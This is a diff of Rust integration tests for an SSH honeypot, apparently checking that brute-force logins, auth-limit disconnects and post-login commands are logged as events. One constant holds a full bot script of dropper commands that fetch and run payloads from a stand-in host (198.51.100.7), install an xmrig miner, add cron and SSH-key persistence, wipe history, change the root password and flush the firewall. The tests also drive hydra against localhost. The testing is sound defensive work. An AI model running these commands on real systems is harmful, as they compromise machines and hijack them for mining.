@@ -204,10 +204,10 @@ async fn openssh_logins_exec_and_downloads_are_events() {
         "{stdout} {stderr}"
     );
     assert!(stdout.contains("\n2\n"), "{stdout}");
-    // Without a terminal stderr shares the data stream (no extended data yet).
-    let all = format!("{stdout}{stderr}");
-    assert!(all.contains("saved ["), "{all}");
-    assert!(all.contains("nosuchcmd: command not found"), "{all}");
+    // Without a terminal, errors and wget's report are stderr (SSH extended data).
+    assert!(stderr.contains("saved ["), "{stderr}");
+    assert!(stderr.contains("nosuchcmd: command not found"), "{stderr}");
+    assert!(!stdout.contains("command not found"), "{stdout}");
     let events = pot.finish().await;
     let failed = of(&events, Kind::SshLoginFailed);
     assert_eq!(failed.len(), 1, "{failed:?}");
@@ -377,4 +377,219 @@ async fn per_ip_limit_refuses_and_reports() {
             .iter()
             .any(|e| e.data["limit"] == "max_connections_per_ip")
     );
+}
+
+/// The tool's path, or a CI failure / local skip.
+fn need(tool: &str) -> bool {
+    let ok = Command::new("sh")
+        .args(["-c", &format!("command -v {tool}")])
+        .stdout(Stdio::null())
+        .status()
+        .is_ok_and(|s| s.success());
+    if !ok && std::env::var("CI").is_ok_and(|v| v == "true") {
+        panic!("{tool} is needed by this test (apt-get install {tool})");
+    }
+    if !ok {
+        eprintln!("skipping: {tool} not installed");
+    }
+    ok
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn hydra_finds_the_weak_pair_and_every_attempt_is_an_event() {
+    if !need("hydra") {
+        return;
+    }
+    let pot = start(SshHoneypotConfig::default()).await;
+    let port = pot.addr.port().to_string();
+    let dir = tempfile::tempdir().unwrap();
+    let list = dir.path().join("passwords.txt");
+    // 15 wrong, then the accepted one last, so hydra has to try them all.
+    let mut words: Vec<String> = (1..=15).map(|i| format!("wrong{i:02}")).collect();
+    words.push("123456".into());
+    std::fs::write(&list, words.join("\n") + "\n").unwrap();
+    let list_arg = list.to_str().unwrap().to_owned();
+    let out = tokio::task::spawn_blocking(move || {
+        Command::new("timeout")
+            .args(["120", "hydra", "-I", "-l", "root", "-P", &list_arg])
+            .args(["-t", "4", "-s", &port, "ssh://127.0.0.1"])
+            .output()
+            .unwrap()
+    })
+    .await
+    .unwrap();
+    let text = String::from_utf8_lossy(&out.stdout);
+    assert!(
+        text.contains("login: root") && text.contains("password: 123456"),
+        "{text}\n{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert!(text.contains("1 valid password found"), "{text}");
+    let events = pot.finish().await;
+    let failed = of(&events, Kind::SshLoginFailed);
+    let ok = of(&events, Kind::SshLoginSuccess);
+    assert!(!ok.is_empty(), "no success event");
+    for e in failed.iter().chain(ok.iter()) {
+        assert_eq!(e.data["username"], "root", "{e:?}");
+        let pw = e.data["password"].as_str().expect("password field");
+        assert!(words.iter().any(|w| w == pw), "unexpected password {pw}");
+        assert!(
+            e.data["client_version"]
+                .as_str()
+                .unwrap()
+                .starts_with("SSH-2.0-")
+        );
+        assert_eq!(e.data["hassh"].as_str().unwrap().len(), 32);
+    }
+    assert!(ok.iter().all(|e| e.data["password"] == "123456"));
+    // Every wrong password hydra sent is there.
+    let tried: std::collections::HashSet<&str> = failed
+        .iter()
+        .map(|e| e.data["password"].as_str().unwrap())
+        .collect();
+    for w in &words[..15] {
+        assert!(tried.contains(w.as_str()), "no event for {w}: {tried:?}");
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn max_auth_tries_ends_with_openssh_disconnect_on_one_connection() {
+    if !have("ssh", &["-V"]) {
+        return;
+    }
+    let pot = start(SshHoneypotConfig::default()).await;
+    let port = pot.addr.port().to_string();
+    let dir = tempfile::tempdir().unwrap();
+    // OpenSSH asks this program for every password prompt, on one connection.
+    let askpass = dir.path().join("askpass.sh");
+    let count = dir.path().join("count");
+    std::fs::write(
+        &askpass,
+        format!("#!/bin/sh\necho x >> {}\necho wrongpass\n", count.display()),
+    )
+    .unwrap();
+    std::fs::set_permissions(
+        &askpass,
+        std::os::unix::fs::PermissionsExt::from_mode(0o700),
+    )
+    .unwrap();
+    let out = tokio::task::spawn_blocking(move || {
+        Command::new("timeout")
+            .args(["60", "ssh", "-o", "StrictHostKeyChecking=no"])
+            .args(["-o", "UserKnownHostsFile=/dev/null"])
+            .args(["-o", "PubkeyAuthentication=no"])
+            .args(["-o", "PreferredAuthentications=password"])
+            .args(["-o", "NumberOfPasswordPrompts=20", "-p", &port])
+            .args(["root@127.0.0.1", "true"])
+            .env("SSH_ASKPASS", &askpass)
+            .env("SSH_ASKPASS_REQUIRE", "force")
+            .env("DISPLAY", ":0")
+            .stdin(Stdio::null())
+            .output()
+            .unwrap()
+    })
+    .await
+    .unwrap();
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(!out.status.success());
+    // OpenSSH's own words, reason 2 (protocol error), as sshd's MaxAuthTries.
+    assert!(
+        stderr.contains("Received disconnect from 127.0.0.1 port")
+            && stderr.contains(":2: Too many authentication failures"),
+        "{stderr}"
+    );
+    let prompts = std::fs::read_to_string(&count).unwrap().lines().count();
+    assert!((6..=7).contains(&prompts), "{prompts} prompts");
+    let events = pot.finish().await;
+    let failed = of(&events, Kind::SshLoginFailed);
+    assert_eq!(failed.len(), 6, "{failed:?}");
+    assert!(failed.iter().all(|e| e.data["password"] == "wrongpass"));
+    let sessions: std::collections::HashSet<_> =
+        failed.iter().map(|e| e.data["session"].clone()).collect();
+    assert_eq!(sessions.len(), 1, "not one connection");
+    assert!(
+        events
+            .iter()
+            .any(|e| e.kind == Kind::SensorStatus && e.data["limit"] == "max_auth_attempts")
+    );
+}
+
+/// What droppers and miners run after logging in (Mirai-style loaders, XMRig
+/// installers, recon one-liners).
+const BOT_SCRIPT: &str = r#"cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://198.51.100.7/bins.sh; chmod 777 bins.sh; sh bins.sh; tftp 198.51.100.7 -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh; rm -rf bins.sh tftp1.sh
+cd /tmp; wget -q http://198.51.100.7/x -O .x; chmod +x .x; ./.x
+cat /proc/cpuinfo | grep name | wc -l
+uname -a; nproc; free -m
+echo -e "\x41\x42"
+/bin/busybox ECCHI; busybox ps; busybox cat /proc/mounts | head -1
+crontab -l
+ls -la /dev/shm; ls -la ~/.ssh
+unset HISTFILE; export HISTFILE=/dev/null; history -c
+cat /etc/issue; cat /etc/os-release | head -2
+lscpu | grep Model; top -bn1 | head -3
+ps aux | grep -v grep | grep xmrig; pkill -9 xmrig; killall -9 kinsing
+chattr -ia /etc/passwd; lsattr /etc/passwd
+echo 'root:Abc123' | chpasswd
+mkdir -p /tmp/.x && cd /tmp/.x && curl -s -O http://198.51.100.7/xmrig.tar.gz && tar xzf xmrig.tar.gz; nohup ./xmrig -o pool:3333 >/dev/null 2>&1 &
+(crontab -l 2>/dev/null; echo '* * * * * curl -s http://198.51.100.7/a.sh | sh') | crontab -
+mkdir -p ~/.ssh && echo 'ssh-rsa AAAAB3Nza x' >> ~/.ssh/authorized_keys && chmod -R go= ~/.ssh
+which ls wget curl perl; getconf LONG_BIT; arch
+for i in 1 2 3; do echo $i; done
+base64 -d <<< YWJj; echo YWJj | base64 -d
+find /tmp -maxdepth 1 -type d | head -3; od -c /etc/hostname | head -1
+ulimit -n 65535; sysctl -w vm.nr_hugepages=128; iptables -F; systemctl stop firewalld
+cat /proc/version; uptime; w; id
+"#;
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn bot_scripts_over_openssh_meet_few_not_found() {
+    if !have("sshpass", &["-V"]) || !have("ssh", &["-V"]) {
+        return;
+    }
+    let pot = start(SshHoneypotConfig::default()).await;
+    let addr = pot.addr;
+    // Once as one exec line (the way loaders send it), once per line.
+    let out = tokio::task::spawn_blocking(move || {
+        let one = ssh(addr, "123456", "root", &[&BOT_SCRIPT.replace('\n', "; ")]);
+        let lines: Vec<_> = BOT_SCRIPT
+            .lines()
+            .map(|l| ssh(addr, "123456", "root", &[l]))
+            .collect();
+        (one, lines)
+    })
+    .await
+    .unwrap();
+    let (one, lines) = out;
+    let mut all = String::new();
+    for o in std::iter::once(&one).chain(lines.iter()) {
+        all.push_str(&String::from_utf8_lossy(&o.stdout));
+        all.push_str(&String::from_utf8_lossy(&o.stderr));
+    }
+    let stdout = String::from_utf8_lossy(&one.stdout);
+    assert!(stdout.contains("Linux web-7 6.1.0-28-amd64"), "{all}");
+    assert!(stdout.contains("\nAB\n"), "{stdout}");
+    assert!(
+        stdout.contains("1\n2\n3\n") || !stdout.contains("for:"),
+        "{stdout}"
+    );
+    // Only busybox's answer to an unknown applet is expected (as on Debian).
+    let not_found: Vec<&str> = all.lines().filter(|l| l.contains("not found")).collect();
+    assert!(not_found.len() <= 2, "{not_found:#?}");
+    assert!(!all.contains("command not found"), "{all}");
+    assert!(!all.contains("syntax error"), "{all}");
+    let events = pot.finish().await;
+    let urls: std::collections::HashSet<String> = of(&events, Kind::SshDownload)
+        .iter()
+        .map(|e| e.data["url"].as_str().unwrap().to_owned())
+        .collect();
+    for u in [
+        "http://198.51.100.7/bins.sh",
+        "http://198.51.100.7/x",
+        "http://198.51.100.7/xmrig.tar.gz",
+        "tftp://198.51.100.7/tftp1.sh",
+    ] {
+        assert!(urls.contains(u), "{u} not in {urls:?}");
+    }
+    let execs = of(&events, Kind::SshExec);
+    assert_eq!(execs.len(), 1 + BOT_SCRIPT.lines().count());
 }
